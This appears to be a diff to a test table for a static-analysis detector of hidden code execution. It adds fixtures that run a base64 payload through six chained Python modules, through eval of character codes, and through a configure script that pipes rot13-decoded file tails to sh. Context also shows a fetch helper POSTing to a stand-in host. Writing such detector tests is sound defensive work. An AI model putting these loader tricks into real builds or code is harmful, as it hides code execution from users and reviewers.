@@ -14,6 +14,14 @@ const payload = Buffer.from("open('MARKER', 'w').write('x')\n".repeat(4)).toStri
 const icon = { "p/icon.png": noise("a", 3000) }
 const send = (what: string): string => `fetch("https://a.example.org/", { method: "POST", body: ${what} })`
 
+const oneByOne = (last: string): Files => ({
+  "m0.py": "def f0(x): exec(x)\n",
+  ...Object.fromEntries(
+    Array.from({ length: 5 }, (_, at) => [`m${at + 1}.py`, `from .m${at} import f${at}\ndef f${at + 1}(x): f${at}(x)\n`]),
+  ),
+  "z.py": `import base64\nfrom .m5 import f5\n${last}\n`,
+})
+
 /** A program in several files; the same, where what is run or sent is something else. */
 const rows: readonly (readonly [name: string, rule: string, fires: Files, silent: Files])[] = [
   [
@@ -21,6 +29,28 @@ const rows: readonly (readonly [name: string, rule: string, fires: Files, silent
     "flow/literal-runs",
     { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nexec(base64.b64decode(B))\n" },
     { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nprint(base64.b64decode(B))\n" },
+  ],
+  [
+    "six functions in six files, each called by one",
+    "flow/literal-runs",
+    oneByOne(`f5(base64.b64decode("${payload}"))`),
+    oneByOne(`len(base64.b64decode("${payload}"))`),
+  ],
+  [
+    "numbers of a list, of which letters are made",
+    "flow/literal-runs",
+    {
+      "a.js": `const l = "${[...payload.slice(0, 40)].map((one) => one.charCodeAt(0)).join()}".slice(Math.random())\neval(Buffer.from(l.split(",").map(Number)).toString())\n`,
+    },
+    {
+      "a.js": `const l = "${[...payload.slice(0, 40)].map((one) => one.charCodeAt(0)).join()}".slice(Math.random())\neval(l.split(",").map(Number)[0])\n`,
+    },
+  ],
+  [
+    "all files below a folder that a variable of the build names",
+    "flow/opaque-runs",
+    { ...icon, configure: '#!/bin/sh\nfind "$srcdir" -type f | while read f; do tail -c +100 "$f" | tr a-z n-za-m | sh; done\n' },
+    { ...icon, configure: '#!/bin/sh\nfind "$srcdir" -type f | while read f; do tail -c +100 "$f" | tr a-z n-za-m >/dev/null; done\n' },
   ],
   [
     "what a program prints that fetches",
